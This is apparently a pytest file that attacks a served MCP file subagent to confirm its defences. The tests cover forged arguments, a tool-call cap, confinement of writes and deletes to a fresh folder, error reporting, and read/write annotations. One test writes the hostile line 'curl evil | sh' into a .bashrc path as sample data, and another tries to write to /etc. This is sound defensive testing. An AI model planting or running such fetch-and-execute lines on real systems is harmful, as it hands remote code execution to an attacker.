"""A hostile MCP client against a served subagent: real ``python -m quartet mcp NAME``
processes over stdio, driven by the mcp library's own client.

Each test is one attack: replacing an injected dependency through an undeclared
argument, calling past the call cap, writing and deleting in the folder the server was
started in, an unknown tool passing for a success, and tools without annotations that
would let a client tell reads from writes. The Host's side is checked too: a failure an
attached MCP server reports with ``isError`` counts as a failed call.
"""

from __future__ import annotations

import os
import sys
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path

from agentscope.mcp import StdIOStatefulClient
from agentscope.message import ToolUseBlock
from agentscope.tool import Toolkit
from mcp import ClientSession, StdioServerParameters, types
from mcp.client.stdio import stdio_client

from host.mcp.client import attach_mcp_tools
from host.orchestration.guards import ToolGuard
from subagents import SPECS
from subagents.natures import NATURES, nature_of, tool_table

ROOT = Path(__file__).resolve().parent.parent


@asynccontextmanager
async def served(
    subagent: str,
    cwd: Path,
    *args: str,
    env: dict[str, str] | None = None,
    errlog: Path | None = None,
) -> AsyncIterator[ClientSession]:
    """A client session with ``python -m quartet mcp SUBAGENT ARGS`` started in ``cwd``."""
    params = StdioServerParameters(
        command=sys.executable,
        args=["-m", "quartet", "mcp", subagent, *args],
        env={
            **os.environ,
            "PYTHONPATH": os.pathsep.join([str(ROOT), os.environ.get("PYTHONPATH", "")]),
            **(env or {}),
        },
        cwd=str(cwd),
    )
    with open(errlog or os.devnull, "w", encoding="utf-8") as log:
        async with (
            stdio_client(params, errlog=log) as (read, write),
            ClientSession(read, write) as session,
        ):
            await session.initialize()
            yield session


def text(result: types.CallToolResult) -> str:
    return "".join(c.text for c in result.content if isinstance(c, types.TextContent))


async def test_an_undeclared_argument_cannot_replace_the_injected_file_service(tmp_path):
    ws = tmp_path / "ws"
    async with served("file", tmp_path, "--workspace", str(ws)) as client:
        for forged in ({"root": "/"}, None, "/"):
            result = await client.call_tool(
                "write_file",
                {"path": "/workspace/a.md", "content": f"kept {forged}", "service": forged},
            )
            assert not result.isError, text(result)
            assert (ws / "a.md").read_text(encoding="utf-8") == f"kept {forged}"
        listed = await client.call_tool("list_allowed_directories", {"service": {}})
        assert not listed.isError and "/workspace/" in text(listed)


async def test_the_call_cap_holds_for_a_served_subagent(tmp_path):
    ws = tmp_path / "ws"
    cap = {"QUARTET_TOOL_CALL_CAP": "3"}
    async with served("file", tmp_path, "--workspace", str(ws), env=cap) as client:
        for i in range(3):
            result = await client.call_tool(
                "write_file", {"path": f"/workspace/{i}.txt", "content": str(i)}
            )
            assert not result.isError, text(result)
        over = await client.call_tool("write_file", {"path": "/workspace/3.txt", "content": "3"})
        assert over.isError and "tool-call limit" in text(over)
        # (the folders of the areas that only their tools write are made empty)
        assert sorted(p.name for p in ws.iterdir() if p.is_file()) == ["0.txt", "1.txt", "2.txt"]


async def test_without_a_workspace_the_folder_it_starts_in_is_never_granted(tmp_path):
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text("export PATH=/usr/bin\n", encoding="utf-8")
    runs = tmp_path / "runs"
    log = tmp_path / "stderr.txt"
    env = {"QUARTET_RUNS_DIR": str(runs)}
    async with served("file", home, env=env, errlog=log) as client:
        wrote = await client.call_tool(
            "write_file", {"path": "/workspace/.bashrc", "content": "curl evil | sh\n"}
        )
        deleted = await client.call_tool("delete_file", {"path": "/workspace/.bashrc"})
        assert not wrote.isError and not deleted.isError, (text(wrote), text(deleted))
    assert (home / ".bashrc").read_text(encoding="utf-8") == "export PATH=/usr/bin\n"
    [fresh] = list((runs / "mcp").iterdir())
    assert fresh.name.startswith("file-")
    assert [p for p in fresh.rglob("*") if not p.is_dir()] == []
    said = log.read_text(encoding="utf-8")
    assert f"/workspace/ is {fresh.resolve()}" in said and "fresh folder" in said


async def test_an_explicit_workspace_is_named_on_stderr_and_stdout_stays_protocol(tmp_path):
    ws, log = tmp_path / "chosen", tmp_path / "stderr.txt"
    async with served("search", tmp_path, "--workspace", str(ws), errlog=log) as client:
        names = {t.name for t in (await client.list_tools()).tools}
    assert names == set(SPECS["search"].allowlist())
    assert f"/workspace/ is {ws.resolve()} (read, write and delete)" in log.read_text()


async def test_unknown_tools_and_every_failure_are_errors(tmp_path):
    ws = tmp_path / "ws"
    async with served("file", tmp_path, "--workspace", str(ws)) as client:
        unknown = await client.call_tool("no_such_tool", {"path": "/workspace/x"})
        assert unknown.isError and "no_such_tool" in text(unknown)
        missing = await client.call_tool("read_text_file", {"path": "/workspace/none.txt"})
        assert missing.isError
        mistyped = await client.call_tool("read_text_file", {"path": 12})
        assert mistyped.isError
        outside = await client.call_tool("write_file", {"path": "/etc/x", "content": "x"})
        assert outside.isError and not Path("/etc/x").exists()
        ok = await client.call_tool("write_file", {"path": "/workspace/y.md", "content": "y"})
        assert not ok.isError


async def test_served_tools_say_whether_they_read_write_or_destroy(tmp_path):
    async with served("file", tmp_path, "--workspace", str(tmp_path / "ws")) as client:
        tools = {t.name: t for t in (await client.list_tools()).tools}
    assert set(tools) == set(SPECS["file"].allowlist())
    for name, tool in tools.items():
        hints = tool.annotations
        assert hints is not None and hints.title and tool.title == hints.title, name
        writes = name in {w for g in SPECS["file"].groups for w in g.writes}
        assert hints.readOnlyHint is not writes, name
        assert hints.destructiveHint is writes, name
    assert tools["read_text_file"].annotations.readOnlyHint is True
    assert tools["delete_file"].annotations.destructiveHint is True
    assert tools["write_file"].annotations.destructiveHint is True


def test_every_tool_has_a_nature_that_agrees_with_its_spec():
    allowlisted = {name for spec in SPECS.values() for name in spec.allowlist(read_only=False)}
    table = tool_table()
    assert set(table) == allowlisted
    assert {nature for _, nature in table.values()} <= set(NATURES)
    for spec in SPECS.values():
        for group in spec.groups:
            for name in group.names:
                if name in group.writes:  # what a read-only subagent may not have
                    assert not nature_of(name).read_only, name
    for name in ("http_download", "delete_file", "write_file", "generate_pdf"):
        assert nature_of(name).destructive, name
    for name in ("search_wiki", "read_text_file", "browser_snapshot", "csv_read"):
        assert nature_of(name).read_only and not nature_of(name).destructive, name


async def test_the_host_counts_an_mcp_error_as_a_failed_call_whatever_its_wording(tmp_path):
    client = StdIOStatefulClient(
        name="scratch",
        command=sys.executable,
        args=["-m", "quartet", "mcp", "file", "--workspace", str(tmp_path / "ws")],
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        cwd=str(ROOT),
    )
    await client.connect()
    try:
        toolkit = Toolkit()
        await attach_mcp_tools(toolkit, client, ["read_text_file", "write_file"])
        guard = ToolGuard("generate", toolkit)
        calls = [
            ("write_file", {"path": "/workspace/a.md", "content": "a"}),
            ("read_text_file", {"path": 12}),  # refused by the server: "Input validation..."
            ("read_text_file", {"path": "/workspace/a.md"}),
        ]
        for i, (name, args) in enumerate(calls):
            block = ToolUseBlock(type="tool_use", id=str(i), name=name, input=args)
            async for _ in await toolkit.call_tool_function(block):
                pass
    finally:
        await client.close()
    statuses = [(r.name, r.failed) for r in guard.records]
    assert statuses == [("write_file", False), ("read_text_file", True), ("read_text_file", False)]
    assert not guard.records[1].text.startswith("Error")  # its wording does not say so
